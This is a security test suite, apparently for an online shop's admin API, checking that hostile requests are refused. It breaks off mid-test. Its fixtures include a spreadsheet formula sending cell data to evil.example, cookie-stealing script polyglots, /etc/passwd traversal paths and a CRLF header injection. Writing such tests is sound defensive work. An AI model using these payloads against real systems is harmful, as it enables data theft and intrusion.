import { mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { count } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { LightMyRequestResponse } from 'fastify';
import { auditLog, productImages } from '../src/db/schema';
import { diskObjectStore } from '../src/media/object-store/disk-object-store';
import { makeProduct, plainProperty, sizeProperty, staffCouponRules } from './support/factories';
import { makeImage, multipartForm, staffRequest, uploadPhoto } from './support/photos';
import { makeStaff, signedIn, type StaffBrowser } from './support/staff';
import { createTestApp, type TestApp } from './support/test-app';

/**
 * An attacker's and a sceptic's tour of the second part of the back office (catalogue, photos, coupons, reviews,
 * experiments, dashboard): hostile bodies, odd bytes, forged counts and paths. Every answer is a clear 4xx in the
 * API's envelope, never a 5xx, and nothing changes (no audit row, no photo row).
 */
const SECRET = 'operator-secret-for-attacks-0123456789';
const sofa = makeProduct({
  id: 'sofa',
  title: '=HYPERLINK("http://evil.example/?x="&A1,"Sofa")',
  properties: [sizeProperty([{ value: 'queen', code: 'QN', priceDiff: 0 }]), plainProperty('Color', ['navy', '+grey'])],
});
const plumeBed = makeProduct({ id: 'plume-bed' });

let t: TestApp;
let root: string;
let owner: StaffBrowser;

beforeAll(async () => {
  root = await mkdtemp(path.join(os.tmpdir(), 'attacks-'));
  t = await createTestApp({
    seed: { nestwood: [sofa], plume: [plumeBed] },
    objectStore: diskObjectStore(root),
    operatorSecret: SECRET,
  });
  owner = await signedIn(t.app, await makeStaff(t.db, { role: 'owner' }));
});
afterAll(async () => {
  await t.close();
  await rm(root, { recursive: true, force: true });
});

const audits = async () => (await t.db.select({ n: count() }).from(auditLog))[0]!.n;
const photos = async () => (await t.db.select({ n: count() }).from(productImages))[0]!.n;

/** A clear refusal: a 4xx in the API's envelope with a message. */
function expectRefusal(res: LightMyRequestResponse, label: string) {
  expect(res.statusCode, `${label}: ${res.statusCode} ${res.body.slice(0, 300)}`).toBeGreaterThanOrEqual(400);
  expect(res.statusCode, `${label}: ${res.body.slice(0, 300)}`).toBeLessThan(500);
  const body = res.json() as { status?: string; code?: string; message?: string };
  expect(body.status, label).toBe('error');
  expect(typeof body.code, label).toBe('string');
  expect(body.message, label).toBeTruthy();
}

const raw = (browser: StaffBrowser, method: 'POST' | 'PUT' | 'PATCH' | 'DELETE', url: string, payload: string) =>
  staffRequest(t.app, browser, { method, url, payload, headers: { 'content-type': 'application/json' } });

/** Every write of the area, with a target that exists where one is needed. */
const WRITES: Array<['POST' | 'PUT' | 'PATCH' | 'DELETE', string]> = [
  ['PUT', '/admin/catalog/products/nestwood/sofa'],
  ['POST', '/admin/catalog/products/nestwood'],
  ['PATCH', '/admin/catalog/variants'],
  ['POST', '/admin/catalog/variants/csv'],
  ['POST', '/admin/catalog/file/dry-run'],
  ['POST', '/admin/catalog/file/apply'],
  ['PATCH', '/admin/catalog/products/nestwood/sofa/photos/ph_00000000000000000000'],
  ['PUT', '/admin/catalog/products/nestwood/sofa/photos/order'],
  ['POST', '/admin/coupons'],
  ['PUT', '/admin/coupons/nestwood/SAVE10'],
  ['POST', '/admin/coupons/nestwood/SAVE10/pause'],
  ['POST', '/admin/reviews/rv_1/approve'],
  ['POST', '/admin/reviews/rv_1/reject'],
  ['PUT', '/admin/reviews/rv_1/reply'],
  ['PUT', '/admin/experiments/nestwood/premier-bundle'],
];

const nested = (depth: number) => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
const HOSTILE_BODIES: Array<[string, string]> = [
  ['not JSON', '{"version": 1,'],
  ['a JSON array', '[1,2,3]'],
  ['null', 'null'],
  ['a string', '"hello"'],
  ['deeply nested JSON', nested(5000)],
  ['1e309 everywhere', '{"version":1e309,"brand":"nestwood","price":1e309,"coupon":{"value":1e309}}'],
  ['-0 and 0.1+0.2', '{"version":-0,"brand":"nestwood","changes":[{"sku":"SOFA-QN","price":0.30000000000000004}]}'],
  ['NUL bytes', '{"brand":"nestwood\\u0000","version":1,"reason":"\\u0000","body":"a\\u0000b"}'],
  ['lone surrogates', '{"brand":"nestwood","version":1,"reason":"\\ud800","body":"\\udfff"}'],
  ['extra fields setting totals', '{"version":1,"status":"published","redemptions":0,"createdBy":"x","total":0,"price":1}'],
  ['a huge array', JSON.stringify({ brand: 'nestwood', changes: Array.from({ length: 60_000 }, () => 1), order: [] })],
];

describe('every write: hostile bodies are a clear 4xx and change nothing', () => {
  it.each(WRITES)('%s %s', async (method, url) => {
    const before = await audits();
    for (const [label, payload] of HOSTILE_BODIES) expectRefusal(await raw(owner, method, url, payload), `${label}`);
    const mega = JSON.stringify({ version: 1, brand: 'nestwood', reason: 'x'.repeat(3 * 1024 * 1024) });
    expectRefusal(await raw(owner, method, url, mega), '3 MB string');
    expect(await audits()).toBe(before);
  });
});

describe('a disabled member’s old session', () => {
  it('is refused on every write; nothing changes', async () => {
    const member = await makeStaff(t.db, { role: 'manager' });
    const browser = await signedIn(t.app, member);
    const disable = await owner.call('POST', `/admin/staff/${member.id}/disable`);
    expect(disable.statusCode, disable.body).toBe(200);
    const before = await audits();
    for (const [method, url] of WRITES) {
      const res = await raw(browser, method, url, '{"version":1}');
      expect(res.statusCode, `${method} ${url}`).toBe(401);
    }
    expect(await audits()).toBe(before);
  });
});

describe('photo uploads: odd files and forms', () => {
  const target = { brand: 'nestwood', productId: 'sofa' };
  const upload = async (label: string, file: { body: Buffer; filename: string; type: string }) => {
    const res = await uploadPhoto(t.app, owner, target, { alt: 'Sofa', file });
    expectRefusal(res, label);
    return res;
  };

  it('a polyglot, an SVG or a GIF named .png, a truncated JPEG, random bytes: refused, nothing kept', async () => {
    const before = [await photos(), await audits()];
    const jpeg = await makeImage('jpeg', { width: 400, height: 300 });
    const html = Buffer.from('<html><script>alert(document.cookie)</script></html>');
    await upload('polyglot (JPEG head + HTML)', {
      body: Buffer.concat([jpeg.subarray(0, 200), html]),
      filename: 'x.jpg',
      type: 'image/jpeg',
    });
    await upload('svg renamed png', {
      body: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><script>alert(1)</script></svg>'),
      filename: 'x.png',
      type: 'image/png',
    });
    await upload('gif renamed png', {
      body: await makeImage('gif', { width: 400, height: 300 }),
      filename: 'x.png',
      type: 'image/png',
    });
    await upload('truncated jpeg', {
      body: jpeg.subarray(0, Math.floor(jpeg.length / 3)),
      filename: 'x.jpg',
      type: 'image/jpeg',
    });
    await upload('html named jpg', { body: html, filename: 'x.jpg', type: 'image/jpeg' });
    await upload('a long name', { body: html, filename: `${'a'.repeat(5000)}.jpg`, type: 'image/jpeg' });
    expect([await photos(), await audits()]).toEqual(before);
  });

  it('a JPEG followed by HTML is cleaned: what is stored is the re-encoded image only', async () => {
    const jpeg = await makeImage('jpeg', { width: 400, height: 300 });
    const html = '<html><script>alert(document.cookie)</script></html>';
    const res = await uploadPhoto(t.app, owner, target, {
      alt: 'Sofa polyglot',
      file: { body: Buffer.concat([jpeg, Buffer.from(html)]), filename: 'x.jpg', type: 'image/jpeg' },
    });
    if (res.statusCode === 200) {
      const url = (res.json().result as { variants?: Array<{ url: string }>; url?: string }).url;
      const served = url ? await t.app.inject({ method: 'GET', url }) : null;
      if (served && served.statusCode === 200) expect(served.rawPayload.includes(Buffer.from('<script>'))).toBe(false);
    } else expectRefusal(res, 'polyglot with full jpeg');
  });

  it('two files, too many fields, a wrong Content-Type, a broken multipart body: refused', async () => {
    const before = [await photos(), await audits()];
    const jpeg = await makeImage('jpeg', { width: 400, height: 300 });
    const url = '/admin/catalog/products/nestwood/sofa/photos';
    const boundary = 'xyzBOUNDARY';
    const filePart = (name: string) =>
      Buffer.concat([
        Buffer.from(
          `--${boundary}\r\ncontent-disposition: form-data; name="${name}"; filename="a.jpg"\r\ncontent-type: image/jpeg\r\n\r\n`,
        ),
        jpeg,
        Buffer.from('\r\n'),
      ]);
    const field = (name: string, value: string) =>
      Buffer.from(`--${boundary}\r\ncontent-disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`);
    const send = (payload: Buffer, contentType = `multipart/form-data; boundary=${boundary}`) =>
      staffRequest(t.app, owner, { method: 'POST', url, payload, headers: { 'content-type': contentType } });
    const end = Buffer.from(`--${boundary}--\r\n`);
    expectRefusal(await send(Buffer.concat([field('alt', 'Two'), filePart('file'), filePart('file'), end])), 'two files');
    expectRefusal(await send(Buffer.concat([field('alt', 'Other'), filePart('other'), end])), 'a file under another name');
    expectRefusal(
      await send(Buffer.concat([...Array.from({ length: 10 }, (_, i) => field(`f${i}`, 'x')), filePart('file'), end])),
      'too many fields',
    );
    expectRefusal(await send(Buffer.concat([field('alt', 'x'.repeat(10_000)), filePart('file'), end])), 'a long field');
    expectRefusal(await send(Buffer.concat([field('alt', 'Broken'), filePart('file')])), 'no closing boundary');
    expectRefusal(await send(Buffer.concat([field('alt', 'x'), filePart('file'), end]), 'multipart/form-data'), 'no boundary');
    expectRefusal(await send(jpeg, 'image/jpeg'), 'a bare JPEG body');
    expectRefusal(await send(Buffer.from('alt=x'), 'application/x-www-form-urlencoded'), 'a urlencoded form');
    const { payload, contentType } = multipartForm(
      { alt: 'Plain' },
      { body: jpeg, filename: '../../../etc/passwd', type: 'text/html' },
    );
    const named = await send(payload, contentType);
    // The file's claimed name and type do not matter: the bytes decide, and the stored key is the cleaned hash.
    if (named.statusCode !== 200) expectRefusal(named, 'a traversal file name');
    else expect(JSON.stringify(named.json())).not.toContain('passwd');
    const after = [await photos(), await audits()];
    expect(after[0]! - before[0]!).toBe(named.statusCode === 200 ? 1 : 0);
  });
});

describe('GET /media/photos/...: traversal and odd bytes', () => {
  it.each([
    '/media/photos/../../etc/passwd',
    '/media/photos/nestwood/..%2f..%2f/etc/passwd',
    '/media/photos/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
    '/media/photos/nestwood/ph_00000000000000000000/..%2F..%2F..%2Fetc/passwd',
    '/media/photos/nestwood/ph_00000000000000000000/0000000000000000/400.jpg',
    '/media/photos/nestwood/ph_00000000000000000000/0000000000000000/401.jpg',
    '/media/photos/nestwood/ph_00000000000000000000/0000000000000000/400.gif',
    '/media/photos/nestwood/ph_00000000000000000000/0000000000000000/original',
    `/media/photos/nestwood/ph_${'a'.repeat(5000)}/0/400.jpg`,
    '/media/photos/nestwood/ph_%00/%00/400.jpg',
    '/media/photos/nestwood/ph_%ff%fe/x/400.jpg',
    '/media/photos/nest%0awood/ph_1/x/400.jpg',
    '/media/photos/%C0%AE%C0%AE/x/y/400.jpg',
  ])('%s is a 4xx in the envelope', async (url) => {
    const res = await t.app.inject({ method: 'GET', url });
    expect(res.statusCode, res.body).toBeGreaterThanOrEqual(400);
    expect(res.statusCode, res.body).toBeLessThan(500);
    expect(res.body).not.toContain('root:');
  });
});

describe('the price sheet CSV', () => {
  it('exports no cell a spreadsheet would run as a formula', async () => {
    const res = await owner.call('GET', '/admin/catalog/variants/csv?brand=nestwood');
    expect(res.statusCode).toBe(200);
    const cells = res.body
      .split(/\r?\n/)
      .slice(1)
      .filter(Boolean)
      .flatMap((line) => line.split(','))
      .map((cell) => cell.replace(/^"/, ''));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('a downloaded sheet uploaded again changes nothing (escaped cells are read-only columns)', async () => {
    const sheet = (await owner.call('GET', '/admin/catalog/variants/csv?brand=nestwood')).body;
    const res = await owner.call('POST', '/admin/catalog/variants/csv', { brand: 'nestwood', csv: sheet });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().result).toMatchObject({ changes: [], errors: [] });
  });

  it('a BOM, CRLF, quotes and formulas in an upload are read as text; 10,001 lines are refused clearly', async () => {
    const sheet = (await owner.call('GET', '/admin/catalog/variants/csv?brand=nestwood')).body;
    const [header, ...lines] = sheet.split('\n').filter(Boolean);
    const crlf = `\uFEFF${[header, ...lines].join('\r\n')}\r\n`;
    const res = await owner.call('POST', '/admin/catalog/variants/csv', { brand: 'nestwood', csv: crlf });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().result).toMatchObject({ changes: [], errors: [] });
    const formula = `sku,price_dollars\n${lines[0]!.split(',')[0]},"=1+1"\n`;
    const f = await owner.call('POST', '/admin/catalog/variants/csv', { brand: 'nestwood', csv: formula });
    expect(f.statusCode).toBe(200);
    expect(f.json().result.changes).toEqual([]);
    expect(f.json().result.errors.length).toBe(1);
    const many = `sku,price_dollars\n${Array.from({ length: 10_001 }, (_, i) => `SKU${i},1.00`).join('\n')}\n`;
    const big = await owner.call('POST', '/admin/catalog/variants/csv', { brand: 'nestwood', csv: many });
    if (big.statusCode === 200) expect(big.json().result.errors.length).toBeGreaterThan(0);
    else expectRefusal(big, '10,001 lines');
    const quotes = `sku,price_dollars\n"${'"'.repeat(1000)}\n`;
    const q = await owner.call('POST', '/admin/catalog/variants/csv', { brand: 'nestwood', csv: quotes });
    expect(q.statusCode, q.body).toBe(200);
    expect(q.json().result.errors.length).toBeGreaterThan(0);
  });
});

describe('the storefronts’ internal counts: forged and inflated', () => {
  const post = (url: string, payload: unknown, secret?: string) =>
    t.app.inject({
      method: 'POST',
      url,
      headers: secret === undefined ? {} : { 'x-operator-secret': secret },
      payload: payload as object,
    });

  it.each(['/dashboard/funnel-counts', '/experiments/exposures'])('%s: no secret, a wrong one, hostile batches', async (url) => {
    const good = { counts: [{ brand: 'nestwood', day: '2026-11-29', step: 'view_item', count: 1 }] };
    for (const secret of [undefined, '', 'x', SECRET.slice(0, -1), `${SECRET} `, SECRET.toUpperCase()])
      expectRefusal(await post(url, good, secret), `secret ${JSON.stringify(secret)}`);
    const entry =
      url === '/experiments/exposures'
        ? { brand: 'nestwood', experiment: 'premier-bundle', variant: 'serenity', count: 1 }
        : { brand: 'nestwood', day: '2026-11-29', step: 'view_item', count: 1 };
    const key = url === '/experiments/exposures' ? 'exposures' : 'counts';
    for (const [label, body] of [
      ['negative count', { [key]: [{ ...entry, count: -5 }] }],
      ['1e309 count', JSON.parse(`{"${key}":[${JSON.stringify(entry).replace('"count":1', '"count":1e309')}]}`)],
      ['fraction', { [key]: [{ ...entry, count: 0.5 }] }],
      ['over a million', { [key]: [{ ...entry, count: 1_000_001 }] }],
      ['huge batch', { [key]: Array.from({ length: 5000 }, () => entry) }],
      ['extra field', { [key]: [{ ...entry, total: 1 }] }],
      ['forged brand with odd bytes', { [key]: [{ ...entry, brand: 'nest\u0000wood' }] }],
      ['not an array', { [key]: entry }],
    ] as const)
      expectRefusal(await post(url, body, SECRET), label);
    const forged = await post(url, { [key]: [{ ...entry, brand: 'evil-brand' }] }, SECRET);
    expect(forged.statusCode).toBe(200);
    expect(forged.json().result.counted).toBe(0);
  });
});

describe('another brand’s ids with a brand-scoped member: 404 as if missing, nothing changed', () => {
  it('products, variants, the price sheet, photos, coupons, experiments, the catalogue file, the dashboard', async () => {
    const jpeg = await makeImage('jpeg', { width: 400, height: 300 });
    const photo = await uploadPhoto(
      t.app,
      owner,
      { brand: 'plume', productId: 'plume-bed' },
      { alt: 'Bed', file: { body: jpeg, filename: 'bed.jpg', type: 'image/jpeg' } },
    );
    expect(photo.statusCode, photo.body).toBe(200);
    const photoId = photo.json().result.id as string;
    const coupon = await owner.call('POST', '/admin/coupons', {
      brand: 'plume',
      coupon: staffCouponRules({ code: 'PLUMEONLY' }),
    });
    expect(coupon.statusCode, coupon.body).toBe(200);
    const product = (await owner.call('GET', '/admin/catalog/products/plume/plume-bed')).json().result;
    const version = product.version as number;
    const sku = Object.keys(product.product.availability)[0]!;

    const nestwoodOnly = await signedIn(t.app, await makeStaff(t.db, { role: 'owner', brands: ['nestwood'] }));
    const before = [await audits(), await photos()];
    const bed = '/admin/catalog/products/plume/plume-bed';
    const attempts: Array<[string, () => Promise<LightMyRequestResponse>]> = [
      ['GET product', () => nestwoodOnly.call('GET', bed)],
      ['PUT product', () => nestwoodOnly.call('PUT', bed, { version, product: { ...product.product, title: 'Mine' } })],
      [
        'POST product',
        () => nestwoodOnly.call('POST', '/admin/catalog/products/plume', { product: { ...product.product, id: 'new-bed' } }),
      ],
      ['GET variants', () => nestwoodOnly.call('GET', '/admin/catalog/variants?brand=plume')],
      [
        'PATCH variants',
        () => nestwoodOnly.call('PATCH', '/admin/catalog/variants', { brand: 'plume', changes: [{ sku, version, price: 1 }] }),
      ],
      ['GET sheet', () => nestwoodOnly.call('GET', '/admin/catalog/variants/csv?brand=plume')],
      [
        'POST sheet',
        () =>
          nestwoodOnly.call('POST', '/admin/catalog/variants/csv', { brand: 'plume', csv: `sku,price_dollars\n${sku},1.00\n` }),
      ],
      ['GET photos', () => nestwoodOnly.call('GET', `${bed}/photos`)],
      ['PATCH photo', () => nestwoodOnly.call('PATCH', `${bed}/photos/${photoId}`, { alt: 'Mine', color: null, version: 1 })],
      ['PUT order', () => nestwoodOnly.call('PUT', `${bed}/photos/order`, { ids: [photoId] })],
      ['DELETE photo', () => staffRequest(t.app, nestwoodOnly, { method: 'DELETE', url: `${bed}/photos/${photoId}` })],
      ['GET coupon', () => nestwoodOnly.call('GET', '/admin/coupons/plume/PLUMEONLY')],
      [
        'PUT coupon',
        () =>
          nestwoodOnly.call('PUT', '/admin/coupons/plume/PLUMEONLY', {
            version: 1,
            coupon: { ...coupon.json().result.rules, value: 90 },
          }),
      ],
      ['pause coupon', () => nestwoodOnly.call('POST', '/admin/coupons/plume/PLUMEONLY/pause', { version: 1 })],
      ['expire coupon', () => nestwoodOnly.call('POST', '/admin/coupons/plume/PLUMEONLY/expire', { version: 1 })],
      [
        'POST coupon',
        () =>
          nestwoodOnly.call('POST', '/admin/coupons', {
            brand: 'plume',
            coupon: { ...coupon.json().result.rules, code: 'MINE1' },
          }),
      ],
      ['GET experiments', () => nestwoodOnly.call('GET', '/admin/experiments?brand=plume')],
      [
        'PUT experiment',
        () =>
          nestwoodOnly.call('PUT', '/admin/experiments/plume/keep-coupon', {
            enabled: false,
            weights: { control: 50, keep: 50 },
            version: 0,
          }),
      ],
      ['GET file', () => nestwoodOnly.call('GET', '/admin/catalog/file?brand=plume')],
      ['GET dashboard', () => nestwoodOnly.call('GET', '/admin/dashboard?brand=plume')],
    ];
    for (const [label, attempt] of attempts) {
      const res = await attempt();
      expect(res.statusCode, `${label}: ${res.body.slice(0, 200)}`).toBe(404);
      expectRefusal(res, label);
    }
    expect([await audits(), await photos()]).toEqual(before);
    const after = (await owner.call('GET', bed)).json().result;
    expect(after.version).toBe(version);
  });
});

describe('concurrent edits and replays', () => {
  it('two edits of one product sent at once: one saves, the other is a 409', async () => {
    const read = (await owner.call('GET', '/admin/catalog/products/nestwood/sofa')).json().result;
    const [a, b] = await Promise.all([
      owner.call('PUT', '/admin/catalog/products/nestwood/sofa', {
        version: read.version,
        product: { ...read.product, name: 'Sofa A' },
      }),
      owner.call('PUT', '/admin/catalog/products/nestwood/sofa', {
        version: read.version,
        product: { ...read.product, name: 'Sofa B' },
      }),
    ]);
    expect([a.statusCode, b.statusCode].sort(), `${a.body} ${b.body}`).toEqual([200, 409]);
    expectRefusal(a.statusCode === 409 ? a : b, 'the second edit');
  });

  it('two edits of one coupon sent at once: one saves, the other is a 409; a replayed pause is harmless', async () => {
    const created = await owner.call('POST', '/admin/coupons', {
      brand: 'nestwood',
      coupon: staffCouponRules({ code: 'RACE1' }),
    });
    expect(created.statusCode, created.body).toBe(200);
    const { rules, version } = created.json().result;
    const [a, b] = await Promise.all([
      owner.call('PUT', '/admin/coupons/nestwood/RACE1', { version, coupon: { ...rules, value: 20 } }),
      owner.call('PUT', '/admin/coupons/nestwood/RACE1', { version, coupon: { ...rules, value: 30 } }),
    ]);
    expect([a.statusCode, b.statusCode].sort(), `${a.body} ${b.body}`).toEqual([200, 409]);
    const detail = (await owner.call('GET', '/admin/coupons/nestwood/RACE1')).json().result;
    const now = (detail.coupon ?? detail) as { version: number };
    const key = { 'idempotency-key': 'pause-race1-00001' };
    const first = await owner.call('POST', '/admin/coupons/nestwood/RACE1/pause', { version: now.version }, key);
    expect(first.statusCode, first.body).toBe(200);
    const auditsAfterPause = await audits();
    const same = await owner.call('POST', '/admin/coupons/nestwood/RACE1/pause', { version: now.version }, key);
    expect(same.statusCode, same.body).toBe(200);
    const other = await owner.call(
      'POST',
      '/admin/coupons/nestwood/RACE1/pause',
      { version: now.version },
      {
        'idempotency-key': 'pause-race1-00002',
      },
    );
    expect(other.statusCode === 200 || other.statusCode === 409, other.body).toBe(true);
    if (other.statusCode !== 200) expectRefusal(other, 'a second pause');
    // The same key on another route or with another body is never the first answer replayed.
    const reused = await owner.call('POST', '/admin/coupons/nestwood/RACE1/resume', { version: now.version + 1 }, key);
    expect(reused.statusCode, reused.body).not.toBe(500);
    const sameKeyOtherBody = await owner.call('POST', '/admin/coupons/nestwood/RACE1/pause', { version: 99 }, key);
    expect(sameKeyOtherBody.statusCode, sameKeyOtherBody.body).not.toBe(500);
    if (sameKeyOtherBody.statusCode >= 400) expectRefusal(sameKeyOtherBody, 'the key with another body');
    expect(await audits()).toBeLessThanOrEqual(auditsAfterPause + 1);
  });
});

describe('the catalogue file: hostile files', () => {
  const send = (url: string, payload: string | Buffer) =>
    staffRequest(t.app, owner, { method: 'POST', url, payload, headers: { 'content-type': 'application/json' } });
  it.each(['/admin/catalog/file/dry-run?brand=nestwood', `/admin/catalog/file/apply?brand=nestwood&plan=${'a'.repeat(64)}`])(
    '%s',
    async (url) => {
      const before = await audits();
      for (const [label, payload] of [
        ...HOSTILE_BODIES,
        ['deep arrays', '['.repeat(200_000) + ']'.repeat(200_000)],
        ['a BOM then JSON', '\uFEFF{}'],
        ['invalid UTF-8', Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d])],
        ['empty', ''],
      ] as Array<[string, string | Buffer]>) {
        const res = await send(url, payload);
        // A dry run reports a file it cannot import as its answer (valid: false, the issues), never as an error.
        if (url.includes('dry-run') && res.statusCode === 200) expect(res.json().result.valid, label).toBe(false);
        else expectRefusal(res, label);
      }
      expect(await audits()).toBe(before);
    },
  );
});

describe('deeply nested values inside the fields a route reads', () => {
  const deep = (n: number) => '['.repeat(n) + ']'.repeat(n);
  it.each(WRITES)('%s %s', async (method, url) => {
    const d = deep(20_000);
    const payload = `{"version":1,"brand":"nestwood","product":${d},"coupon":${d},"changes":${d},"order":${d},"weights":${d},"csv":${d}}`;
    expectRefusal(await raw(owner, method, url, payload), 'nested');
  });
});

describe('list and read queries with hostile values: a clear 4xx or an answer, never a 5xx', () => {
  const odd = ['%00', '%ED%A0%80', '%C0%AE', '%25', '_', `${'x'.repeat(5000)}`, '%0d%0aSet-Cookie:%20a=1', '__proto__'];
  const urls = (value: string) => [
    `/admin/catalog/products?q=${value}`,
    `/admin/catalog/products?brand=${value}`,
    `/admin/catalog/products?group=${value}`,
    `/admin/catalog/variants?brand=${value}`,
    `/admin/catalog/variants/csv?brand=${value}`,
    `/admin/catalog/file?brand=${value}`,
    `/admin/catalog/products/nestwood/${value}`,
    `/admin/catalog/products/nestwood/sofa/photos?x=${value}`,
    `/admin/coupons?q=${value}`,
    `/admin/coupons?status=${value}`,
    `/admin/coupons/nestwood/${value}`,
    `/admin/reviews?q=${value}`,
    `/admin/reviews?product=${value}`,
    `/admin/reviews?page=${value}`,
    `/admin/experiments?brand=${value}`,
    `/admin/dashboard?from=${value}`,
    `/admin/dashboard?brand=${value}`,
  ];
  it.each(odd)('%s', async (value) => {
    for (const url of urls(value)) {
      const res = await owner.call('GET', url);
      expect(res.statusCode, `${url.slice(0, 120)}: ${res.body.slice(0, 200)}`).toBeLessThan(500);
      if (res.statusCode >= 400) expectRefusal(res, url.slice(0, 120));
      expect(JSON.stringify(res.headers)).not.toContain('a=1');
    }
  });

  it('repeated keys, a period of ten thousand years, a period that ends before it starts', async () => {
    for (const url of [
      '/admin/coupons?brand=nestwood&brand=plume',
      '/admin/reviews?page=1&page=2',
      '/admin/dashboard?from=0001-01-01&to=9999-12-31',
      '/admin/dashboard?from=2026-11-29&to=2026-01-01',
      '/admin/dashboard?from=2026-02-30',
      '/admin/reviews?page=1e309',
      '/admin/reviews?page=-0',
      '/admin/reviews?page=0x10',
    ]) {
      const started = performance.now();
      const res = await owner.call('GET', url);
      expect(res.statusCode, `${url}: ${res.body.slice(0, 200)}`).toBeLessThan(500);
      if (res.statusCode >= 400) expectRefusal(res, url);
      expect(performance.now() - started, url).toBeLessThan(3000);
    }
  });
});

describe('a photo of extreme proportions (within the pixel bound)', () => {
  it('a side longer than WebP holds is refused (422); the longest allowed makes every variant', async () => {
    const tall = await makeImage('png', { width: 200, height: 100_000 });
    const res = await uploadPhoto(
      t.app,
      owner,
      { brand: 'nestwood', productId: 'sofa' },
      { alt: 'A very tall sofa', file: { body: tall, filename: 'tall.png', type: 'image/png' } },
    );
    // Its WebP variants could never be made (WebP holds at most 16,383 px a side): refused at upload.
    expect([res.statusCode, res.json().message]).toEqual([422, 'The photo must be at most 16,383 pixels on its longest side']);
    const longest = await makeImage('png', { width: 200, height: 16_383 });
    const ok = await uploadPhoto(
      t.app,
      owner,
      { brand: 'nestwood', productId: 'sofa' },
      { alt: 'A tall sofa', file: { body: longest, filename: 'tall.png', type: 'image/png' } },
    );
    expect(ok.statusCode, ok.body).toBe(200);
    const { src } = ok.json().result as { src: string };
    for (const file of ['160.webp', '400.webp', '160.jpg', '160.avif']) {
      const variant = await t.app.inject({ method: 'GET', url: `${src}/${file}` });
      expect(variant.statusCode, `${file}: ${variant.body.slice(0, 200)}`).toBe(200);
    }
  }, 60_000);
});

describe('races and odd Idempotency-Keys', () => {
  const couponRules = (code: string) => staffCouponRules({ code });

  it('two creations of one coupon code at once: one 200, the other a clear 409', async () => {
    const results = await Promise.all(
      [1, 2, 3].map(() => owner.call('POST', '/admin/coupons', { brand: 'nestwood', coupon: couponRules('TWINS1') })),
    );
    const statuses = results.map((r) => r.statusCode).sort();
    expect(statuses, results.map((r) => r.body).join(' ')).toEqual([200, 409, 409]);
    for (const r of results) if (r.statusCode !== 200) expectRefusal(r, 'the second creation');
  });

  it('three different products created under one id at once: one 200, the others a clear 409 (the same one again is a replay)', async () => {
    const read = (await owner.call('GET', '/admin/catalog/products/nestwood/sofa')).json().result.product;
    const twin = { ...read, id: 'twin-sofa', name: 'twin-sofa', title: 'Twin sofa', inventoryKey: 'TWINSOFA' };
    twin.availability = Object.fromEntries(
      Object.entries(read.availability as Record<string, unknown>).map(([sku, v]) => [
        sku.replace(read.inventoryKey, 'TWINSOFA'),
        v,
      ]),
    );
    twin.skuData = Object.fromEntries(
      Object.entries((read.skuData ?? {}) as Record<string, unknown>).map(([sku, v]) => [
        sku.replace(read.inventoryKey, 'TWINSOFA'),
        v,
      ]),
    );
    const results = await Promise.all(
      [1, 2, 3].map((n) =>
        owner.call('POST', '/admin/catalog/products/nestwood', { product: { ...twin, title: `Twin sofa ${n}` } }),
      ),
    );
    const statuses = results.map((r) => r.statusCode).sort();
    expect(statuses, results.map((r) => r.body.slice(0, 300)).join(' ')).toEqual([200, 409, 409]);
    for (const r of results) if (r.statusCode !== 200) expectRefusal(r, 'the second creation');
  });

  it('one upload sent twice at once with one Idempotency-Key adds one photo', async () => {
    const before = await photos();
    const body = await makeImage('jpeg', { width: 300, height: 300 });
    const key = { 'idempotency-key': 'upload-race-000001' };
    const results = await Promise.all(
      [1, 2].map(() =>
        uploadPhoto(
          t.app,
          owner,
          { brand: 'nestwood', productId: 'sofa' },
          { alt: 'Race', file: { body, filename: 'r.jpg', type: 'image/jpeg' } },
          key,
        ),
      ),
    );
    for (const r of results) expect(r.statusCode, r.body).toBeLessThan(500);
    expect(await photos()).toBe(before + 1);
  });

  it.each([
    ['a 5,000-character key', 'k'.repeat(5000)],
    ['an empty key', ''],
    ['spaces only', '     '],
    ['latin-1 bytes', 'clé-ünïcode'],
  ])('%s on a write: a clear answer, never a 5xx', async (_label, key) => {
    const res = await owner.call(
      'POST',
      '/admin/coupons',
      { brand: 'nestwood', coupon: couponRules('ODDKEY') },
      { 'idempotency-key': key },
    );
    expect(res.statusCode, res.body).toBeLessThan(500);
    if (res.statusCode >= 400) expectRefusal(res, 'odd key');
  });
});

describe('extra fields nested where a client might hope they are read', () => {
  it('a product, a variant change, a coupon, a photo edit and an experiment with fields they do not take: 400, nothing changed', async () => {
    const read = (await owner.call('GET', '/admin/catalog/products/nestwood/sofa')).json().result;
    const sku = Object.keys(read.product.availability)[0]!;
    const coupon = (
      await owner.call('POST', '/admin/coupons', {
        brand: 'nestwood',
        coupon: staffCouponRules({ code: 'NESTED1' }),
      })
    ).json().result;
    const before = await audits();
    for (const [label, method, url, body] of [
      [
        'product.createdBy',
        'PUT',
        '/admin/catalog/products/nestwood/sofa',
        { version: read.version, product: { ...read.product, createdBy: 'x' } },
      ],
      [
        'product.version',
        'PUT',
        '/admin/catalog/products/nestwood/sofa',
        { version: read.version, product: { ...read.product, version: 'x' } },
      ],
      [
        'change.total',
        'PATCH',
        '/admin/catalog/variants',
        { brand: 'nestwood', changes: [{ sku, version: read.version, price: 100, total: 1 }] },
      ],
      [
        'change.status',
        'PATCH',
        '/admin/catalog/variants',
        { brand: 'nestwood', changes: [{ sku, version: read.version, status: 'active' }] },
      ],
      [
        'coupon.redemptions',
        'PUT',
        '/admin/coupons/nestwood/NESTED1',
        { version: coupon.version, coupon: { ...coupon.rules, redemptions: 0 } },
      ],
      [
        'coupon.status',
        'PUT',
        '/admin/coupons/nestwood/NESTED1',
        { version: coupon.version, coupon: { ...coupon.rules, status: 'active' } },
      ],
      [
        'coupon.createdBy on create',
        'POST',
        '/admin/coupons',
        { brand: 'nestwood', coupon: { ...coupon.rules, code: 'NESTED2', createdBy: 'x' } },
      ],
      [
        'experiment.exposures',
        'PUT',
